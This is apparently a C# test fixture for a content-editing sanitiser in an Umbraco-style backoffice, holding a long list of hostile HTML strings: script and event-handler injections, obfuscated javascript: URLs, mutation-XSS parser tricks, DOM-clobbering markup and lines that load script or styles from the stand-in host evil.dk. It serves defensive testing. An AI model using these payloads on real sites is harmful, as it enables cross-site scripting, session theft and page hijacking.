namespace Hedensted.Content.Tests.Editing;

/// <summary>Markup that has got script past sanitisers, by trick.</summary>
internal static class HostileMarkup
{
    public static readonly string[] All =
    [
        // Script and handlers, plainly
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.dk/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<p onclick=alert(1)>x", "<body onload=alert(1)>",
        "<div onpointerrawupdate=alert(1)>x</div>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<p style=animation-name:x onanimationstart=alert(1)>x", "<a href=/ onmouseover\n=alert(1)>x</a>",
        // Addresses
        "<a href=javascript:alert(1)>x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#9;script:alert(1)\">x</a>", "<a href=\"java&#x0A;script:alert(1)\">x</a>", "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
        "<a href=\" \u0001\u0002javascript:alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"\ufeffjavascript:alert(1)\">x</a>", "<a href=\"java\u0000script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"blob:https://a/b\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"//evil.dk\">x</a>", "<a href=\"/\\evil.dk\">x</a>", "<a href=\"/\t/evil.dk\">x</a>",
        "<a href=\"\\\\evil.dk\">x</a>", "<a href=\"feed:javascript:alert(1)\">x</a>", "<a href=\"view-source:javascript:1\">x</a>", "<a href=\"javascript&amp;colon;alert(1)\">x</a>",
        "<a href=\"https:javascript:alert(1)\">x</a>", "<a xlink:href=\"javascript:alert(1)\" href=\"?\">x</a>", "<a href=https://a.dk ping=https://evil.dk>x</a>",
        "<img src=javascript:alert(1)>", "<img src=data:image/svg+xml,<svg/onload=alert(1)>>", "<img src=http://evil.dk/pixel>", "<img src=/media/../umbraco/signout>",
        "<img src=/media/%2e%2e/umbraco>", "<img src=//evil.dk/x.png>", "<img srcset=\"//evil.dk/x 1x\" src=/media/a.jpg>", "<img src=/media/a.jpg lowsrc=javascript:1 dynsrc=javascript:1 usemap=#m>",
        "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>x</button></form>", "<isindex type=image src=1 onerror=alert(1)>",
        // Style
        "<style>@import '//evil.dk/x.css'</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>",
        "<div style=\"position:fixed;inset:0;background:url(//evil.dk)\">x</div>", "<link rel=stylesheet href=//evil.dk/x.css>", "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
        // Things that load or change the page
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>", "<base href=//evil.dk/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<frameset onload=alert(1)><frame src=javascript:1></frameset>",
        "<link rel=import href=//evil.dk>", "<portal src=//evil.dk></portal>", "<map name=m><area href=javascript:alert(1)></map>", "<object><param name=src value=javascript:alert(1)></object>",
        // SVG and MathML
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><iframe srcdoc=\"<script>1</script>\"></iframe></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x><script>1</script></svg>#x\"></svg>",
        "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        // Markup that changes when it is read again
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext><table><mglyph><style><math><table id=\"</table><img src onerror=alert(1)>\">", "<math><mtext><mglyph><style><img src=\"</style><img src=x onerror=alert(1)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=\"</style><img src=x onerror=alert(1)>\"></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><style>/*<![CDATA[*/</style><img src=x onerror=alert(1)>/*]]>*/</svg>", "<svg><desc><noscript>&lt;/noscript>&lt;style>&lt;a title=\"&lt;/style>&lt;img src onerror=alert(1)>\">",
        "<svg><title><style><img src=\"</style><img src=x onerror=alert(1)>\"></title></svg>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript><style></noscript><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)></template>", "<template><template></template><style></template><img src=x onerror=alert(1)>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>", "<select><style></select><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<p title=\"&lt;img src=x onerror=alert(1)&gt;\">x</p>", "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>", "<img alt=\"`><script>alert(1)</script>\" src=/media/a.jpg>", "<a href=\"/x\" title=\"--!><img src=x onerror=alert(1)>\">x</a>",
        "<form><div></form><form><div><form id=y></form>x", "<table><form><tr><td><form></table><img src=x onerror=alert(1)>", "<p><table><p><a href=/x><table><a href=/y>x", "<a href=/x><b><a href=/y><p><i><a href=/z>x</b>",
        "<b><p><i><table><b><td></i></b></p></table>x", "<ruby><rt><math><mi><style></ruby><img src=x onerror=alert(1)>",
        // Comments and half tags
        "<!--<img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<!-->-><script>alert(1)</script>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]><script>1</script>", "<!x><img src=x onerror=alert(1)>", "</ a><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)", "<<img src=x onerror=alert(1)>", "<a href='/x' title='</a><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<\u0000script>alert(1)</script>",
        // Taking names in the page
        "<a id=location href=/x>x</a>", "<form id=document name=cookie><input name=attributes></form>", "<img name=getElementById src=/media/a.jpg>", "<div id=__proto__ data-x=1>x</div>", "<a name=config href=/x>x</a><a id=config>y</a>",
        // What the backoffice itself knows
        "<umb-rte-block data-content-key=\"x\" onclick=alert(1)><script>1</script></umb-rte-block>", "<umb-rte-block-inline data-content-key='59e2c097-ef71-5342-849f-d6c883757fc4' style=x><img src=x onerror=alert(1)></umb-rte-block-inline>",
        "<umb-code-editor code=\"<script>1</script>\">x</umb-code-editor>", "<a href=\"/{localLink:javascript:alert(1)}\" type=\"text/html\" data-udi=\"javascript:1\">x</a>", "<a href=/x data-anchor=\"javascript:alert(1)\">x</a>", "<x-widget is=script onclick=1>x</x-widget>", "<p is=x-y slot=z part=q>x</p>",
    ];
}
